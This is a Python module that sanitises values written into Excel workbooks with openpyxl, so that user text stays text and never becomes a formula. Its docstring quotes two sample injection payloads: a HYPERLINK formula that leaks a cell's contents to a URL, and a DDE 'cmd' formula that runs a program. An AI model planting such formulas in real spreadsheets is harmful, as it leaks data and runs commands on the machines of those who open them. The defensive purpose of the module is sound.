"""Every value the app writes into a workbook goes through here: text is text, never a formula.

openpyxl turns any string that starts with ``=`` into a formula, so a supporter named
``=HYPERLINK("http://…?leak="&A2, "Xem")`` or a commune named ``=cmd|' /C calc'!A0`` from a bundle would
become a live formula in the officer's or the province's workbook. Here every string is stored as a text
cell (``data_type`` ``"s"``), marked with Excel's quote prefix when it starts like a formula (``=``, ``+``,
``-``, ``@``, a tab or a carriage return) so that editing it in Excel keeps it text; characters XML cannot
hold (NUL and other control characters, lone surrogates) are dropped, and text is cut to Excel's 32,767
characters. The app's own formulas, if it ever writes one, go through :func:`put_formula`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

MAX_CELL_TEXT = 32_767
"""Excel's limit for the text of one cell."""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
_UNSAFE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def safe_text(text: str) -> str:
    """``text`` as a cell can hold it: no characters XML refuses, at most :data:`MAX_CELL_TEXT` long."""
    cleaned = _UNSAFE.sub("", text)
    if len(cleaned) > MAX_CELL_TEXT:
        cleaned = cleaned[: MAX_CELL_TEXT - 1] + "…"
    return cleaned


def _value(value: Any) -> Any:
    if isinstance(value, str):
        return safe_text(value)
    if value is None or isinstance(value, bool | int | float | Decimal | date | datetime):
        return value
    return safe_text(str(value))


def _as_data(cell: Cell, value: Any) -> Cell:
    """``cell`` holding ``value`` as data: a string stays a text cell whatever it starts with."""
    cell.value = _value(value)
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write ``value`` into one cell as data (never a formula) and return the cell."""
    return _as_data(sheet.cell(row=row, column=column), value)


def append(sheet: Worksheet, values: Iterable[Any]) -> tuple[Cell, ...]:
    """Add a row after the last one (as :meth:`Worksheet.append` would), every value as data; returns
    the row's cells."""
    items = list(values)
    if not items:
        sheet.append([])
        return ()
    row = sheet._current_row + 1  # what Worksheet.append uses; writing a cell moves it on
    return tuple(put(sheet, row, column, value) for column, value in enumerate(items, start=1))


def put_formula(sheet: Worksheet, row: int, column: int, formula: str) -> Cell:
    """A formula the app itself made (never one built from user text)."""
    cell = sheet.cell(row=row, column=column)
    cell.value = formula
    return cell
